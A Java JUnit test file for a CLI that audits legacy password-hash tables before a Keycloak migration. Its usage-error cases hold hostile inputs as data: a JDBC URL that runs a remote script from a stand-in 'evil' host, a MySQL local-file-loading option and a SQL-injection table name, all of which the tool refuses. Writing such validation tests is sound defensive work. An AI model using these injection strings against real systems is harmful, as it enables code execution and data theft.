package dev.legacybridge.cli;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code legacy-hash audit} in-process against a real SQLite file holding Django's schema and the seed of legacy-db/. */
class AuditCommandTest {

    @TempDir
    Path dir;

    private static Object at(Object node, Object... path) {
        Object current = node;
        for (Object step : path) {
            current = step instanceof Integer i ? ((List<?>) current).get(i) : ((Map<?, ?>) current).get(step);
        }
        return current;
    }

    private static long number(Object node, Object... path) {
        return ((Json.Number) at(node, path)).asLong(-1);
    }

    private static Map<String, Object> json(CliRun run) throws Json.JsonException {
        return Json.parseObject(run.out().replace('\n', ' '));
    }

    /** Seed rows whose hash is plain PBKDF2 or argon2 under the default policy. */
    private static final long NATIVE_AFTER_BULK = 10;

    @Test
    void auditWhenSeededSqliteThenJsonReportsTheKnownFactsOfTheSeed() throws Exception {
        String url = SeededSqlite.create(dir);

        CliRun run = CliRun.run("", "audit", url, "--json");

        assertThat(run.exitCode()).as(run.toString()).isZero();
        assertThat(run.err()).isEmpty();
        Map<String, Object> report = json(run);
        assertThat(at(report, "format")).isEqualTo("legacy-hash-audit/1");
        assertThat(at(report, "source")).isEqualTo(Map.of("jdbcUrl", url, "dialect", "sqlite", "preset", "django",
                "usersTable", "auth_user"));
        assertThat(number(report, "rows")).isEqualTo(SeededSqlite.ROWS);
        assertThat(at(report, "schemes", "bcrypt")).isEqualTo(Map.of("rows", n(4), "weak", false, "usable", n(4),
                "unusable", n(0), "noPassword", n(0), "malformed", n(0), "unsupported", n(0), "notAllowed", n(0)));
        assertThat(number(report, "schemes", "django_pbkdf2_sha256", "rows")).isEqualTo(5);
        assertThat(number(report, "schemes", "django_pbkdf2_sha256", "malformed")).isEqualTo(1);
        assertThat(number(report, "schemes", "django_md5", "notAllowed")).isEqualTo(1);
        assertThat(at(report, "schemes", "django_md5", "weak")).isEqualTo(true);
        assertThat(((Map<?, ?>) at(report, "schemes")).keySet().stream().map(String::valueOf).toList()).hasSize(21)
                .doesNotContain("empty", "unknown");

        assertThat(number(report, "hashes", "usable", "rows")).isEqualTo(22);
        assertThat(number(report, "hashes", "malformed", "rows")).isEqualTo(1);
        assertThat(at(report, "hashes", "malformed", "examples", 0, "legacyId")).isEqualTo(SeededSqlite.U_MALFORMED);
        assertThat(at(report, "hashes", "malformed", "examples", 0, "scheme")).isEqualTo("django_pbkdf2_sha256");
        assertThat(number(report, "hashes", "unusable", "rows")).isEqualTo(1);
        assertThat(at(report, "hashes", "unusable", "examples", 0, "legacyId")).isEqualTo(SeededSqlite.U_UNUSABLE);
        assertThat(number(report, "hashes", "notAllowed", "rows")).isEqualTo(5);
        assertThat((List<?>) at(report, "hashes", "notAllowed", "examples")).hasSize(5);
        assertThat(number(report, "hashes", "unsupported", "rows")).isZero();
        assertThat(number(report, "hashes", "noPassword", "rows")).isZero();
        // After a bulk migration: the seed's Django PBKDF2 (sha256, sha1), argon2, passlib pbkdf2 and Werkzeug pbkdf2
        // rows become Keycloak's own credentials; bcrypt, scrypt, SHA-crypt and the rest still need the provider.
        assertThat(number(report, "afterBulkMigration", "native") + number(report, "afterBulkMigration", "needProvider"))
                .isEqualTo(22);
        assertThat(number(report, "afterBulkMigration", "native")).isEqualTo(NATIVE_AFTER_BULK);
        assertThat(((Map<?, ?>) at(report, "afterBulkMigration", "needProviderBySchemes")).keySet().stream()
                .map(String::valueOf).toList())
                .contains("bcrypt", "django_bcrypt_sha256", "django_scrypt")
                .doesNotContain("django_pbkdf2_sha256", "django_argon2", "pbkdf2_sha256");

        assertThat(at(report, "inactive")).isEqualTo(Map.of("rows", n(1), "examples", List.of(SeededSqlite.ALICE)));
        assertThat(at(report, "withoutEmail")).isEqualTo(Map.of("rows", n(1),
                "examples", List.of(SeededSqlite.U_UNUSABLE)));
        assertThat(at(report, "withoutUsername")).isEqualTo(Map.of("rows", n(0), "examples", List.of()));
        // The per-format rows of the seed leave the names empty, as Django's createsuperuser does.
        assertThat(number(report, "withoutFirstName", "rows")).isEqualTo(21);
        assertThat(number(report, "withoutLastName", "rows")).isEqualTo(21);
        assertThat(number(report, "incompleteProfile", "rows")).isEqualTo(21);
        assertThat((List<Object>) at(report, "incompleteProfile", "examples")).hasSize(10).contains("6", "7");
        assertThat(at(report, "migrated")).isSameAs(Json.NULL);
        assertThat(at(report, "usernameCollisions")).isEqualTo(Map.of("values", n(1), "rows", n(2),
                "top", List.of(Map.of("value", "caseuser", "rows", n(2)))));
        assertThat(at(report, "emailCollisions")).isEqualTo(Map.of("values", n(0), "rows", n(0), "top", List.of()));
        assertThat(at(report, "failOn")).isEqualTo(List.of());
        assertThat(at(report, "failed")).isEqualTo(List.of());
        assertThat(new ArrayList<>(report.keySet())).containsExactly("format", "source", "allowedSchemes", "rows",
                "schemes", "hashes", "afterBulkMigration", "inactive", "withoutEmail", "withoutFirstName", "withoutLastName",
                "incompleteProfile", "withoutUsername", "migrated", "usernameCollisions",
                "emailCollisions", "failOn", "failed");
        assertNoHashOf(url, run);
    }

    @Test
    void auditWhenTextThenTablesAndExampleIdsWithoutAnyHash() {
        String url = SeededSqlite.create(dir);

        CliRun run = CliRun.run("", "audit", url, "--examples", "2");

        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).startsWith("Legacy users table auth_user (" + url + ", preset django)\nRows: 29 (read in ")
                .containsPattern("(?m)^  bcrypt +4 +4 +0 +0 +0 +0 +0$")
                .containsPattern("(?m)^  django_md5 \\(weak\\) +1 +0 +0 +0 +0 +0 +1$")
                .containsPattern("(?m)^  malformed +1$")
                .contains("      legacy id 24: django_pbkdf2_sha256, ")
                .containsPattern("(?m)^  not allowed +5$")
                .contains("      ... and 3 more")
                .containsPattern("(?m)^  inactive +1   legacy ids: 3$")
                .containsPattern("(?m)^  without email +1   legacy ids: 25$")
                .containsPattern("(?m)^  usernames +1   \\(2 rows\\)$")
                .contains("2 x caseuser");
        assertNoHashOf(url, run);
    }

    @Test
    void auditWhenAllowWeakThenWeakSchemesUsableAndFailOnBlockersStillMet() throws Exception {
        String url = SeededSqlite.create(dir);

        CliRun run = CliRun.run("", "audit", url, "--json", "--allow-weak", "--fail-on", "blockers,no-email");

        assertThat(run.exitCode()).isEqualTo(1);
        Map<String, Object> report = json(run);
        assertThat(number(report, "hashes", "notAllowed", "rows")).isZero();
        assertThat(number(report, "hashes", "usable", "rows")).isEqualTo(27);
        assertThat(at(report, "failOn")).isEqualTo(List.of("malformed", "unsupported", "not-allowed", "no-email",
                "no-username", "username-collisions"));
        assertThat(at(report, "failed")).isEqualTo(List.of("malformed", "no-email", "username-collisions"));
        assertThat(run.err()).isEqualTo("legacy-hash audit: --fail-on conditions met: malformed (1), no-email (1), "
                + "username-collisions (1)\n");
    }

    @Test
    void auditWhenFailOnConditionsNotMetThenExit0() {
        String url = SeededSqlite.create(dir);

        CliRun run = CliRun.run("", "audit", url, "--fail-on", "unsupported,email-collisions,no-password");

        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).contains("--fail-on unsupported,no-password,email-collisions: none met");
    }

    @Test
    void auditWhenPolicyCapsAndEmptyPasswordsThenNotAllowedAndNoPasswordCounted() throws Exception {
        String url = SeededSqlite.create(dir, "UPDATE auth_user SET password = '' WHERE id IN (1, 2)",
                "UPDATE auth_user SET username = '' WHERE id = 5");

        CliRun run = CliRun.run("", "audit", url, "--json", "--max-pbkdf2-iterations", "300000",
                "--upgrade-target", "bcrypt:12");

        Map<String, Object> report = json(run);
        assertThat(number(report, "hashes", "noPassword", "rows")).isEqualTo(2);
        assertThat(at(report, "hashes", "noPassword", "examples", 0)).isEqualTo(Map.of("legacyId", "1",
                "scheme", "empty", "reason", "no password stored"));
        assertThat(number(report, "schemes", "empty", "noPassword")).isEqualTo(2);
        // admin_legacy's 600,000 iterations and staff_legacy's... above the cap; alice's 260,000 below it
        assertThat(number(report, "schemes", "django_pbkdf2_sha256", "notAllowed")).isGreaterThanOrEqualTo(1);
        assertThat(number(report, "hashes", "usable", "upgradeRecommended"))
                .as("every usable hash but bcrypt at cost >= 12 is below the target").isPositive();
        assertThat(at(report, "withoutUsername")).isEqualTo(Map.of("rows", n(1), "examples", List.of("5")));
    }

    @Test
    void auditWhenGenericPresetAndMigratedColumnThenReadsOnlyThoseColumns() throws Exception {
        String url = SeededSqlite.create(dir, "CREATE TABLE accounts (uid integer PRIMARY KEY, login text, pw text, "
                + "migrated bool)", "INSERT INTO accounts VALUES (10, 'Ann', '$2b$04$iS3exuvDjsnGLdIwTsjzK.heXrvOJG0SkfR"
                + "AwskpWUit6DJD5uAwK', 1), (11, 'ann', NULL, 0), (12, 'bob', 'garbage', NULL)");

        CliRun run = CliRun.run("", "audit", url, "--json", "--preset", "generic", "--users-table", "accounts",
                "--id-column", "uid", "--username-column", "login", "--password-column", "pw", "--migrated-column",
                "migrated");

        assertThat(run.exitCode()).as(run.toString()).isZero();
        Map<String, Object> report = json(run);
        assertThat(number(report, "rows")).isEqualTo(3);
        assertThat(number(report, "hashes", "usable", "rows")).isEqualTo(1);
        assertThat(number(report, "hashes", "noPassword", "rows")).isEqualTo(1);
        assertThat(at(report, "hashes", "unsupported", "examples", 0)).isEqualTo(Map.of("legacyId", "12",
                "scheme", "unknown", "reason", "no supported scheme recognises the value"));
        assertThat(at(report, "withoutEmail")).as("no email column").isSameAs(Json.NULL);
        assertThat(at(report, "emailCollisions")).isSameAs(Json.NULL);
        assertThat(at(report, "migrated")).isEqualTo(Map.of("rows", n(1)));
        assertThat(number(report, "inactive", "rows")).as("no active column: all active").isZero();
        assertThat(number(report, "usernameCollisions", "values")).isEqualTo(1);
    }

    @Test
    void auditWhenPagedThenEveryRowOnceWhateverThePageSize() throws Exception {
        String url = SeededSqlite.create(dir);

        for (String size : List.of("1", "7", "29", "30")) {
            Map<String, Object> report = json(CliRun.run("", "audit", url, "--json", "--page-size", size));
            assertThat(number(report, "rows")).as("page size " + size).isEqualTo(SeededSqlite.ROWS);
            assertThat(number(report, "schemes", "bcrypt", "rows")).isEqualTo(4);
        }
    }

    @Test
    void auditWhenProgressForcedThenLinesOnStderrOnlyAndJsonUntouched() throws Exception {
        String url = SeededSqlite.create(dir);

        CliRun run = CliRun.run("", "audit", url, "--json", "--progress", "--page-size", "10");

        assertThat(run.err()).startsWith("10/29 rows  34% [######..............]").contains("29/29 rows 100%")
                .contains("rows/s  ETA ");
        assertThat(json(run).get("rows")).isEqualTo(n(29));
        assertThat(run.out()).doesNotContain("rows/s");
    }

    @Test
    void auditWhenStderrIsATerminalThenProgressRedrawnInPlaceUnlessNoProgress() {
        String url = SeededSqlite.create(dir);

        CliRun tty = CliRun.run(new byte[0], Map.of(), true, "audit", url, "--json");
        CliRun quiet = CliRun.run(new byte[0], Map.of(), true, "audit", url, "--json", "--no-progress");

        assertThat(tty.err()).startsWith("\r").contains("29/29 rows 100%").endsWith("\n");
        assertThat(quiet.err()).isEmpty();
    }

    @Test
    void auditWhenSqliteFileMissingThenRefusedAndNoFileCreated() {
        Path missing = dir.resolve("nope.sqlite3");

        CliRun run = CliRun.run("", "audit", "jdbc:sqlite:" + missing);

        assertThat(run.exitCode()).isEqualTo(64);
        assertThat(run.err()).startsWith("legacy-hash audit: JDBC_URL refused: JDBC URL: " + missing
                + " is not an existing SQLite database file");
        assertThat(run.out()).isEmpty();
        assertThat(missing).doesNotExist();
    }

    @Test
    void auditWhenUrlBreaksTheOperatorsRestrictionsThenRefusedBeforeConnecting() throws Exception {
        String url = SeededSqlite.create(dir);
        Path other = Files.createDirectories(dir.resolve("elsewhere"));

        CliRun inside = CliRun.run("", "audit", url, "--sqlite-dir", dir.toString(), "--no-progress");
        CliRun outside = CliRun.run("", "audit", url, "--sqlite-dir", other.toString());
        CliRun host = CliRun.run("", "audit", "jdbc:postgresql://10.9.8.7:5432/app", "--allowed-hosts", "db.internal");
        CliRun port = CliRun.run("", "audit", "jdbc:postgresql://db.internal:22/app", "--allowed-ports", "5432");
        CliRun badFlag = CliRun.run("", "audit", url, "--allowed-ports", "ssh");

        assertThat(inside.exitCode()).as(inside.toString()).isZero();
        assertThat(outside.exitCode()).isEqualTo(64);
        assertThat(outside.err()).contains("the SQLite file must be inside " + other.toRealPath());
        assertThat(host.err()).contains("host '10.9.8.7' is not among the hosts the server operator allows");
        assertThat(port.err()).contains("port 22 is not among the ports");
        assertThat(badFlag.exitCode()).isEqualTo(64);
        assertThat(badFlag.err()).contains("allowed port 'ssh'");
    }

    @Test
    void auditWhenColumnMissingThenExit2NamingIt() {
        String url = SeededSqlite.create(dir);

        CliRun run = CliRun.run("", "audit", url, "--email-column", "emial");

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).isEqualTo("legacy-hash audit: the table does not match the schema options: Column 'emial' "
                + "was not found in table 'auth_user'\n");
    }

    @Test
    void auditWhenGroupTablesMissingThenExit2WithTheHintAndNoneSkipsThem() {
        String url = SeededSqlite.create(dir, "DROP TABLE auth_user_groups", "DROP TABLE auth_group");

        CliRun run = CliRun.run("", "audit", url);
        CliRun none = CliRun.run("", "audit", url, "--legacy-groups-as", "none");

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).isEqualTo("legacy-hash audit: the table does not match the schema options: Table "
                + "'auth_group' was not found or is not readable; Table 'auth_user_groups' was not found or is not "
                + "readable (without group tables: --legacy-groups-as none)\n");
        assertThat(none.exitCode()).isZero();
    }

    @Test
    void auditWhenDatabaseUnreachableThenExit2WithoutThePassword() {
        CliRun run = CliRun.withEnv(Map.of("DB_PW", "s3cret-db-pw"), "audit",
                "jdbc:postgresql://127.0.0.1:1/app?password=other-secret", "--user", "app", "--password-env", "DB_PW",
                "--connect-timeout", "2");

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).startsWith("legacy-hash audit: cannot connect to PostgreSQL at 127.0.0.1:1/app: ")
                .doesNotContain("s3cret-db-pw").doesNotContain("other-secret");
    }

    @Test
    void auditWhenUsageErrorsThenExit64BeforeConnecting() throws Exception {
        Path missing = dir.resolve("never-created.sqlite3");
        String url = "jdbc:sqlite:" + missing;
        Path pwFile = dir.resolve("pw");
        Files.writeString(pwFile, "x\n", StandardCharsets.UTF_8);

        Map<List<String>, String> cases = Map.ofEntries(
                Map.entry(List.of("audit"), "Missing required parameter: 'JDBC_URL'"),
                Map.entry(List.of("audit", "postgres://db/app"), "JDBC URL 'postgres:...' is not supported"),
                Map.entry(List.of("audit", "jdbc:oracle:thin:@db:1521/x"), "JDBC URL 'jdbc:oracle:...' is not supported"),
                Map.entry(List.of("audit", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"), "is not supported"),
                Map.entry(List.of("audit", "jdbc:mysql://db/app?allowLoadLocalInfile=true"),
                        "'allowLoadLocalInfile' is refused: it is set by Legacy Bridge to a safe value"),
                Map.entry(List.of("audit", url, "--fail-on", "malformed,typo"), "--fail-on: unknown condition 'typo'"),
                Map.entry(List.of("audit", url, "--preset", "rails"), "Schema preset must be one of django, wordpress, drupal7, aspnet_identity, spring_jdbc, laravel, devise, generic"),
                Map.entry(List.of("audit", url, "--preset", "generic"), "Users table is required with the generic preset"),
                Map.entry(List.of("audit", url, "--users-table", "auth_user;--"), "Users table must be a plain SQL identifier"),
                Map.entry(List.of("audit", url, "--role-mappings", "is_staff"), "Role flag mappings must look like column:role"),
                Map.entry(List.of("audit", url, "--allow", "rot13"), "unknown scheme 'rot13'"),
                Map.entry(List.of("audit", url, "--page-size", "0"), "--page-size must be between 1 and 10000"),
                Map.entry(List.of("audit", url, "--progress", "--no-progress"), "give either --progress or --no-progress"),
                Map.entry(List.of("audit", url, "--password", "a", "--password-file", pwFile.toString()),
                        "give only one of --password, --password-env and --password-file"),
                Map.entry(List.of("audit", url, "--password-env", "NO_SUCH_VARIABLE_X"),
                        "environment variable NO_SUCH_VARIABLE_X is not set"),
                Map.entry(List.of("audit", url, "--password-file", dir.resolve("none").toString()), "cannot read"),
                Map.entry(List.of("audit", url, "--bogus"), "Unknown option: '--bogus'"));
        for (Map.Entry<List<String>, String> c : cases.entrySet()) {
            CliRun run = CliRun.run("", c.getKey().toArray(String[]::new));

            assertThat(run.exitCode()).as(c.getKey() + "\n" + run).isEqualTo(64);
            assertThat(run.err()).as(c.getKey().toString()).startsWith("legacy-hash audit: ").contains(c.getValue());
            assertThat(run.out()).isEmpty();
        }
        assertThat(missing).doesNotExist();
    }

    @Test
    void auditWhenRowsOfTheNewFormatsAndARecipeThenEachCountedUnderItsScheme() throws Exception {
        String[][] rows = {
            {"101", "{bcrypt}$2y$04$3xE3bEtfgZxKSKWXh3Q5Ru6jiiWhEySoAKoj1ntQQA4DulKbdRMjK"},
            {"102", "{noop}password"},
            {"103", "$P$B46MLXETsH3iA0wg0mnlYvU4m0/AH5/"},
            {"104", "$S$DC3n5rAitFGdYiMzOYTeILAxdpDTSy18cIZlX/l1sLxxeWf4ZzsV"},
            {"105", "$y$j9T$WjrfUUMmnvNYpesF1pKi/0$swljovHzp8amUKjHNXF8ObG5MiEdXLkDAV2yrpIkNB."},
            {"106", "AQAAAAIAAYagAAAAEAABAgMEBQYHCAkKCwwNDg/Q8A0WMKbtHQJQ2DHCdoEeeFBrgNlldq6vH4qX/CGqGQ=="},
            {"107", "1bce93d8d10ea62a2d2cbee7e66537dcbb1f960f548a7840b779799a4131ee79"},
            {"108", "$P$TizFgrs1GEYGyulKoKw.DRnhyDG20x0"},
            {"109", "{scrypt}$eFFFF$tTeV8Z43aw3pDsMQI9K+B32UjEsGxFvcsdfiJfXddWiJRm+Hz9P/C05IKj/hoyptoxehyph+VSmshnWxcm3"
                    + "ANQ==$5aZJbU10PfhNuaxInqWIp3s0MXtDyxlFj9pRpQ5b5I8="}};
        String[] inserts = new String[rows.length];
        for (int i = 0; i < rows.length; i++) {
            inserts[i] = "INSERT INTO auth_user (id, password, is_superuser, username, last_name, email, is_staff, "
                    + "is_active, date_joined, first_name) VALUES (" + rows[i][0] + ", '" + rows[i][1] + "', 0, 'new"
                    + rows[i][0] + "', '', 'new" + rows[i][0] + "@example.com', 0, 1, '2024-01-01', '')";
        }
        String url = SeededSqlite.create(dir, inserts);

        CliRun run = CliRun.run("", "audit", url, "--json", "--param", "recipe=sha256", "--param",
                "salt_source=column");

        assertThat(run.exitCode()).as(run.toString()).isZero();
        Map<String, Object> report = json(run);
        assertThat(at(report, "schemes", "spring_delegating")).isEqualTo(Map.of("rows", n(2), "weak", false,
                "usable", n(1), "unusable", n(0), "noPassword", n(0), "malformed", n(0), "unsupported", n(0),
                "notAllowed", n(1)));
        assertThat(number(report, "schemes", "spring_delegating_weak", "notAllowed")).isEqualTo(1);
        assertThat(number(report, "schemes", "phpass", "usable")).isEqualTo(1);
        assertThat(number(report, "schemes", "phpass", "malformed")).isEqualTo(1);
        assertThat(number(report, "schemes", "drupal7", "usable")).isEqualTo(1);
        assertThat(number(report, "schemes", "yescrypt", "usable")).isEqualTo(1);
        assertThat(number(report, "schemes", "aspnet_identity", "usable")).isEqualTo(1);
        assertThat(at(report, "schemes", "recipe_digest", "weak")).isEqualTo(true);
        assertThat(number(report, "schemes", "recipe_digest", "notAllowed")).isEqualTo(1);
        String out = run.out();
        for (String[] row : rows) {
            assertThat(out).doesNotContain(row[1]);
        }
    }

    /** Neither a whole stored value nor its last field (digest or salt) appears in the output. */
    private static void assertNoHashOf(String url, CliRun run) {
        List<String> hashes = new ArrayList<>();
        try (Connection c = DriverManager.getConnection(url); Statement s = c.createStatement();
             ResultSet rs = s.executeQuery("SELECT password FROM auth_user")) {
            while (rs.next()) {
                hashes.add(rs.getString(1));
            }
        } catch (java.sql.SQLException e) {
            throw new IllegalStateException(e);
        }
        assertThat(hashes).hasSize(SeededSqlite.ROWS);
        String all = run.out() + run.err();
        for (String hash : hashes) {
            assertThat(all).doesNotContain(hash);
            String tail = hash.substring(Math.max(hash.lastIndexOf('$'), hash.lastIndexOf('}')) + 1);
            if (tail.length() >= 12) {
                assertThat(all).doesNotContain(tail);
            }
        }
    }

    private static Json.Number n(long value) {
        return new Json.Number(Long.toString(value));
    }
}
